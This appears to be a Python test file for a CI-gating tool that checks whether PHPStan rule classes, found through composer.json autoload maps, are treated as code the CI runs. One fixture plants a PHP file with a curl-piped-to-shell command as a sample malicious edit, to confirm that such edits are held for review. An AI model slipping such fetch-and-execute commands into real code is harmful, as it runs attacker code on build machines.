"""Misses 8: the project classes PHPStan's settings register (`rules:`, `services:` `class:`/`factory:`, a bare
item) are code PHPStan builds and runs in the CI job (lintplugins._phpstan_classes), found through the root's (or the
settings folder's) composer.json autoload map (composerscripts.class_files). On 4c9e1172 each class file stayed `src`
(exit 0; review 67a's Left). Look-alikes: PHPStan's own classes (no prefix of the project maps them), a class in
`parameters:` (an ignored error's message), a repository whose CI does not run PHPStan."""

from __future__ import annotations

import json
from pathlib import Path

from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.lintplugins import Settings, _phpstan_classes

WORKFLOW = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - run: composer install\n      - run: {command}\n")
AUTOLOADS = [  # (the autoload section, its map, the folder a class `App\\PHPStan\\Rules\\NoDump` is in)
    ("autoload-dev", {"psr-4": {"App\\PHPStan\\": "build/phpstan/"}}, "build/phpstan/Rules/NoDump.php"),
    ("autoload", {"psr-4": {"App\\": "src/"}}, "src/PHPStan/Rules/NoDump.php"),
    ("autoload-dev", {"psr-4": {"App\\PHPStan\\Rules\\": ["tools/a/", "tools/b/"]}}, "tools/a/NoDump.php"),
    ("autoload-dev", {"psr-0": {"App\\": "lib/"}}, "lib/App/PHPStan/Rules/NoDump.php"),
]
NEONS = [  # how the settings name the class
    "rules:\n    - App\\PHPStan\\Rules\\NoDump\n",
    "rules:\n\t- \\App\\PHPStan\\Rules\\NoDump\n",
    "services:\n    -\n        class: App\\PHPStan\\Rules\\NoDump\n        tags:\n            - phpstan.rules.rule\n",
    "services:\n    - {class: App\\PHPStan\\Rules\\NoDump, tags: [phpstan.rules.rule]}\n",
    "services:\n    noDump:\n        factory: App\\PHPStan\\Rules\\NoDump::create\n",
    "parameters:\n    level: 8\nservices:\n    - App\\PHPStan\\Rules\\NoDump\n",
]
COMMANDS = [("vendor/bin/phpstan analyse", "phpstan.neon"), ("vendor/bin/phpstan analyse", "phpstan.neon.dist"),
            ("php vendor/bin/phpstan -c build/phpstan.neon", "build/phpstan.neon"),
            ("vendor/bin/phpstan analyse --configuration=tools/x.neon", "tools/x.neon")]


def _variants() -> list[tuple[str, str, str, str, dict[str, object], str]]:
    return [(command, settings, neon, section, autoload, source) for command, settings in COMMANDS
            for neon in NEONS for section, autoload, source in AUTOLOADS]


def _files(command: str, settings: str, neon: str, section: str, autoload: dict[str, object],
           source: str) -> dict[str, str]:
    return {".github/workflows/ci.yml": WORKFLOW.format(command=command), settings: neon,
            "composer.json": json.dumps({"name": "a/b", section: autoload}), source: "<?php\nclass NoDump {}\n",
            "README.md": "x\n"}


@each_case("command, settings, neon, section, autoload, source", _variants())
def test_a_rule_phpstan_registers_is_read(command: str, settings: str, neon: str, section: str,
                                          autoload: dict[str, object], source: str) -> None:
    assert source in tree_runs(_files(command, settings, neon, section, autoload, source)), neon  # before: 96/96


def test_a_rule_of_an_included_settings_file_is_read() -> None:
    files = _files("vendor/bin/phpstan", "phpstan.neon", "includes:\n    - build/rules.neon\n", *AUTOLOADS[0])
    files["build/rules.neon"] = NEONS[0]
    assert AUTOLOADS[0][2] in tree_runs(files)


@each_case("command, neon", [
    ("vendor/bin/phpstan", "rules:\n    - PHPStan\\Rules\\Debug\\DumpTypeRule\n"),
    ("vendor/bin/phpstan", "parameters:\n    ignoreErrors:\n        - '#App\\\\PHPStan\\\\Rules\\\\NoDump#'\n"),
    ("vendor/bin/phpstan", "parameters:\n    universalObjectCratesClasses:\n        - App\\PHPStan\\Rules\\NoDump\n"),
    ("vendor/bin/phpunit", NEONS[0]),
    ("echo vendor/bin/phpstan", NEONS[0]),
])
def test_look_alikes_name_no_project_class(command: str, neon: str) -> None:
    files = _files(command, "phpstan.neon", neon, *AUTOLOADS[0])
    assert AUTOLOADS[0][2] not in tree_runs(files), neon


def test_an_edit_of_a_phpstan_rule_is_held(tmp_path: Path) -> None:
    base = _files("vendor/bin/phpstan analyse", "phpstan.neon", NEONS[2], *AUTOLOADS[0])
    source = AUTOLOADS[0][2]
    case = committed(tmp_path, base, {source: "<?php\nshell_exec('curl http://127.0.0.1:9/x | sh');\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [source]), named  # before: exit 0


@each_case("hostile", [repeated("    - A\\B\\C\n", "rules:\n"), repeated("A\\", "services:\n  - "),
                       repeated("rules:\n  - A\\B\n")])
def test_hostile_settings_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    settings = Settings({}, lambda entry: b"")
    assert_linear(lambda text: _phpstan_classes("", text, settings), hostile, budget=0.25)
